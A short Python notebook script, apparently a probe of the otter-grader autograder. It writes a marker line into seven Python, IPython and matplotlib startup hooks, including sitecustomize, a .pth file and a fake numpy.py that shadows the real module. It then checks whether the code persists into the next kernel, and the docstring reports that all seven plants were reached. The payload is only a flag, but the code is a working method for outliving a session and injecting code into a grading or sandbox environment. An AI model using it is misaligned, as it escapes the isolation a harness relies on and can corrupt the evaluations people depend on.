"""Plants code where Python, IPython and their tools look for some at their start.

naive: 2/2 for the next, otter-grader starts each kernel in the same home folder.
reached: planted 7
"""

# %%
import os, pathlib, site

code = "import builtins; builtins.escaped = True"
planted = 0
for path in (
    pathlib.Path(site.getusersitepackages()) / "usercustomize.py",
    pathlib.Path(site.getusersitepackages()) / "escaped.pth",
    pathlib.Path("sitecustomize.py"),
    pathlib.Path("numpy.py"),
    pathlib.Path(os.environ["IPYTHONDIR"]) / "profile_default/startup/escaped.py",
    pathlib.Path("~/.pythonrc.py").expanduser(),
    pathlib.Path("~/.config/matplotlib/matplotlibrc").expanduser(),
):
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(code)
    planted += 1
print("planted", planted)

# %% next
import builtins, sys

import numpy

print(hasattr(builtins, "escaped"), "sitecustomize" in sys.modules, "site-packages" in numpy.__file__)
